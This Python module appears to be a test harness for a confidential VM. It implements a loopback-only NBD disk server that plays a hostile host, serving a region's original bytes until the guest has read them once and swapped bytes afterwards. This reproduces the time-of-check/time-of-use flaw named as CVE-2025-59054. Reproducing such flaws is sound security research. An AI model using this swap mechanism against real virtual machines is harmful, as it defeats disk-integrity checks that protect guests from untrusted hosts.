"""A minimal NBD server (fixed newstyle handshake, simple replies) serving a raw disk image
to QEMU over loopback, able to swap the bytes of one region after the guest has read it.

The host owns the disk in cvminit's threat model; this is the host answering reads with
what it likes, at the moment it likes: the bytes of a region as they were until the guest
has read all of it once, then another content (the TOCTOU of CVE-2025-59054). Protocol:
NetworkBlockDevice/nbd doc/proto.md, as much of it as QEMU's client needs:

    handshake  S: "NBDMAGIC" "IHAVEOPT" u16 flags   C: u32 flags
    options    C: "IHAVEOPT" u32 option u32 length data
               S: u64 0x3e889045565a9 u32 option u32 reply-type u32 length data
               GO (7): NBD_REP_INFO(NBD_INFO_EXPORT: size, flags), then NBD_REP_ACK;
               EXPORT_NAME (1): size, flags (no option reply); ABORT (2); others: ERR_UNSUP
    requests   C: u32 0x25609513 u16 flags u16 type u64 cookie u64 offset u32 length [data]
               S: u32 0x67446698 u32 error u64 cookie [data of a READ]
               READ (0), WRITE (1), DISC (2), FLUSH (3); others get EINVAL.

Loopback only, one thread per connection, and every socket times out: the server stops by
itself `lifetime` seconds after it started even if nobody stops it.

    with NbdServer(disk, lifetime=600, log=work / "nbd.log") as srv:
        srv.swap_after_read(off, new_bytes)
        VM(..., disks=[{"file": srv.url}])
"""

import hashlib
import os
import select
import socket
import struct
import threading
import time

MAGIC = b"NBDMAGIC"
IHAVEOPT = b"IHAVEOPT"
OPT_REPLY_MAGIC = 0x3E889045565A9
REQUEST_MAGIC = 0x25609513
SIMPLE_REPLY_MAGIC = 0x67446698

FLAG_FIXED_NEWSTYLE = 1 << 0
FLAG_NO_ZEROES = 1 << 1
FLAG_C_NO_ZEROES = 1 << 1

OPT_EXPORT_NAME = 1
OPT_ABORT = 2
OPT_GO = 7
REP_ACK = 1
REP_INFO = 3
REP_ERR_UNSUP = (1 << 31) + 1
REP_ERR_UNKNOWN = (1 << 31) + 6
INFO_EXPORT = 0

TFLAG_HAS_FLAGS = 1 << 0
TFLAG_SEND_FLUSH = 1 << 2

CMD_READ, CMD_WRITE, CMD_DISC, CMD_FLUSH = 0, 1, 2, 3
EIO, EINVAL = 5, 22
MAX_REQUEST = 32 << 20  # QEMU's client never asks for more than 32 MiB at once


class NbdError(Exception):
    pass


def _recv(s, n):
    """n bytes from s, or NbdError when the peer closes first."""
    buf = bytearray()
    while len(buf) < n:
        chunk = s.recv(n - len(buf))
        if not chunk:
            raise NbdError(f"peer closed after {len(buf)} of {n} bytes")
        buf += chunk
    return bytes(buf)


class NbdServer:
    """Serves the raw image `path` as export `export` on 127.0.0.1 (an ephemeral port:
    self.url). self.events: (seconds since start, "read"|"write"|..., offset, length,
    what) of every request touching a watched region, and the swap itself."""

    def __init__(self, path, *, export="disk", lifetime=600, log=None):
        self.path = str(path)
        self.export = export
        self.lifetime = lifetime
        self.size = os.path.getsize(self.path)
        self.events = []
        self.requests = 0
        self.errors = []
        self._log = open(log, "w", encoding="utf-8", buffering=1) if log else None
        self._lock = threading.Lock()
        self._swap = None      # (offset, new bytes, covered 512-byte blocks as a bytearray)
        self.swapped_at = None  # seconds since start of the swap, None before it
        self._t0 = time.monotonic()
        self._deadline = self._t0 + lifetime
        self._fd = os.open(self.path, os.O_RDWR)
        self._sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self._sock.bind(("127.0.0.1", 0))
        self._sock.listen(4)
        self._sock.settimeout(1.0)
        self.port = self._sock.getsockname()[1]
        self.url = f"nbd://127.0.0.1:{self.port}/{export}"
        self._stop = threading.Event()
        self._threads = []

    # ------------------------------------------------------------------ control

    def swap_after_read(self, offset, new):
        """Reads of [offset, offset + len(new)) return the image's bytes until every
        512-byte block of it has been read at least once (by any number of requests),
        and `new` from the request after the one completing that. Writes always go to
        the image (and are recorded when they touch the region)."""
        if offset % 512 or len(new) % 512 or offset + len(new) > self.size:
            raise ValueError("the swapped region must be whole 512-byte blocks")
        with self._lock:
            self._swap = (offset, bytes(new), bytearray(len(new) // 512))

    def region_events(self, after_swap=None):
        """The recorded events; after_swap True/False: only those after/before it."""
        with self._lock:
            ev = list(self.events)
        if after_swap is None:
            return ev
        s = self.swapped_at
        return [e for e in ev if e[1] != "swap" and
                ((s is not None and e[0] > s) if after_swap else (s is None or e[0] <= s))]

    def _event(self, kind, off, length, what=""):
        t = time.monotonic() - self._t0
        self.events.append((t, kind, off, length, what))
        if self._log:
            self._log.write(f"[{t:9.3f}] {kind} {off}+{length} {what}\n")

    # ------------------------------------------------------------------ serving

    def __enter__(self):
        t = threading.Thread(target=self._accept, name="nbd-accept", daemon=True)
        t.start()
        self._threads.append(t)
        return self

    def __exit__(self, *exc):
        self.stop()
        return False

    def stop(self):
        self._stop.set()
        for t in self._threads:
            t.join(5)
        try:
            self._sock.close()
        except OSError:
            pass
        if self._fd is not None:
            os.close(self._fd)
            self._fd = None
        if self._log:
            self._log.close()
            self._log = None

    def _alive(self):
        return not self._stop.is_set() and time.monotonic() < self._deadline

    def _accept(self):
        while self._alive():
            try:
                conn, peer = self._sock.accept()
            except socket.timeout:
                continue
            except OSError:
                return
            if peer[0] != "127.0.0.1":
                conn.close()
                continue
            t = threading.Thread(target=self._serve, args=(conn,), name="nbd-conn",
                                 daemon=True)
            t.start()
            self._threads.append(t)

    def _serve(self, conn):
        conn.settimeout(None)
        try:
            with conn:
                if self._handshake(conn):
                    self._transmission(conn)
        except (NbdError, OSError) as e:
            if self._alive():
                with self._lock:
                    self.errors.append(str(e))
                    self._event("error", 0, 0, str(e))

    def _recv(self, conn, n):
        """Waits (in 1 s steps, while the server is alive) for a message to start, then
        reads its n bytes: a peer in the middle of a message sends the rest or closes."""
        if n == 0:
            return b""
        while not select.select([conn], [], [], 1.0)[0]:
            if not self._alive():
                raise NbdError("server lifetime over")
        return _recv(conn, n)

    def _opt_reply(self, conn, opt, rtype, data=b""):
        conn.sendall(struct.pack(">QIII", OPT_REPLY_MAGIC, opt, rtype, len(data)) + data)

    def _handshake(self, conn):
        conn.sendall(MAGIC + IHAVEOPT
                     + struct.pack(">H", FLAG_FIXED_NEWSTYLE | FLAG_NO_ZEROES))
        cflags = struct.unpack(">I", self._recv(conn, 4))[0]
        tflags = TFLAG_HAS_FLAGS | TFLAG_SEND_FLUSH
        while True:
            magic, opt, length = struct.unpack(">8sII", self._recv(conn, 16))
            if magic != IHAVEOPT or length > 65536:
                raise NbdError(f"bad option header {magic!r} length {length}")
            data = _recv(conn, length)
            if opt == OPT_EXPORT_NAME:
                if data.decode(errors="replace") != self.export:
                    raise NbdError(f"unknown export {data!r}")
                conn.sendall(struct.pack(">QH", self.size, tflags)
                             + (b"" if cflags & FLAG_C_NO_ZEROES else bytes(124)))
                return True
            if opt == OPT_ABORT:
                self._opt_reply(conn, opt, REP_ACK)
                return False
            if opt == OPT_GO:
                n = struct.unpack_from(">I", data, 0)[0]
                if data[4:4 + n].decode(errors="replace") != self.export:
                    self._opt_reply(conn, opt, REP_ERR_UNKNOWN)
                    continue
                self._opt_reply(conn, opt, REP_INFO,
                                struct.pack(">HQH", INFO_EXPORT, self.size, tflags))
                self._opt_reply(conn, opt, REP_ACK)
                return True
            # Structured replies, meta contexts, TLS, lists: not offered.
            self._opt_reply(conn, opt, REP_ERR_UNSUP)

    def _transmission(self, conn):
        while True:
            magic, _flags, cmd, cookie, off, length = struct.unpack(
                ">IHHQQI", self._recv(conn, 28))
            if magic != REQUEST_MAGIC:
                raise NbdError(f"bad request magic {magic:#x}")
            ok = off + length <= self.size and length <= MAX_REQUEST
            if cmd == CMD_DISC:
                return
            if cmd == CMD_WRITE:
                data = _recv(conn, length)
                err = self._write(off, data) if ok else EINVAL
                conn.sendall(struct.pack(">IIQ", SIMPLE_REPLY_MAGIC, err, cookie))
            elif cmd == CMD_READ:
                data = self._read(off, length) if ok else None
                conn.sendall(struct.pack(">IIQ", SIMPLE_REPLY_MAGIC,
                                         EINVAL if data is None else 0, cookie)
                             + (data or b""))
            elif cmd == CMD_FLUSH:
                os.fdatasync(self._fd)
                conn.sendall(struct.pack(">IIQ", SIMPLE_REPLY_MAGIC, 0, cookie))
            else:
                conn.sendall(struct.pack(">IIQ", SIMPLE_REPLY_MAGIC, EINVAL, cookie))

    def _read(self, off, length):
        data = os.pread(self._fd, length, off)
        if len(data) != length:
            return None
        with self._lock:
            self.requests += 1
            if self._swap is None:
                return data
            base, new, seen = self._swap
            lo, hi = max(off, base), min(off + length, base + len(new))
            if lo >= hi:
                return data
            if self.swapped_at is not None:
                # After the swap: the region's bytes are the new ones.
                buf = bytearray(data)
                buf[lo - off:hi - off] = new[lo - base:hi - base]
                data = bytes(buf)
                what = "swapped bytes served"
            else:
                for b in range((lo - base) // 512, (hi - base + 511) // 512):
                    seen[b] = 1
                what = "original bytes served"
            digest = hashlib.sha256(data[lo - off:hi - off]).hexdigest()[:16]
            self._event("read", lo - base, hi - lo, f"{what}, sha256 {digest}")
            if self.swapped_at is None and all(seen):
                self.swapped_at = time.monotonic() - self._t0
                self._event("swap", 0, len(new), "the whole region has been read once: "
                            "later reads get the new bytes")
            return data

    def _write(self, off, data):
        with self._lock:
            self.requests += 1
            if self._swap is not None:
                base, new, _ = self._swap
                lo, hi = max(off, base), min(off + len(data), base + len(new))
                if lo < hi:
                    self._event("write", lo - base, hi - lo, "into the watched region")
        try:
            os.pwrite(self._fd, data, off)
        except OSError:
            return EIO
        return 0


def nbd_read(url, offset, length, timeout=30):
    """Reads [offset, offset + length) of an export with a minimal client (fixed newstyle,
    NBD_OPT_GO, one READ, DISC): what any reader of the disk gets now."""
    rest = url[len("nbd://"):]
    hostport, export = rest.split("/", 1)
    host, port = hostport.rsplit(":", 1)
    with socket.create_connection((host, int(port)), timeout) as s:
        hello = _recv(s, 18)
        if hello[:16] != MAGIC + IHAVEOPT:
            raise NbdError(f"not a newstyle NBD server: {hello!r}")
        s.sendall(struct.pack(">I", FLAG_C_NO_ZEROES | 1))
        name = export.encode()
        data = struct.pack(">I", len(name)) + name + struct.pack(">H", 0)
        s.sendall(IHAVEOPT + struct.pack(">II", OPT_GO, len(data)) + data)
        while True:
            magic, _opt, rtype, n = struct.unpack(">QIII", _recv(s, 20))
            _recv(s, n)
            if magic != OPT_REPLY_MAGIC or rtype & (1 << 31):
                raise NbdError(f"NBD_OPT_GO refused: reply type {rtype:#x}")
            if rtype == REP_ACK:
                break
        s.sendall(struct.pack(">IHHQQI", REQUEST_MAGIC, 0, CMD_READ, 1, offset, length))
        magic, err, cookie = struct.unpack(">IIQ", _recv(s, 16))
        if magic != SIMPLE_REPLY_MAGIC or err or cookie != 1:
            raise NbdError(f"READ failed: magic {magic:#x} error {err}")
        out = _recv(s, length)
        s.sendall(struct.pack(">IHHQQI", REQUEST_MAGIC, 0, CMD_DISC, 2, 0, 0))
        return out
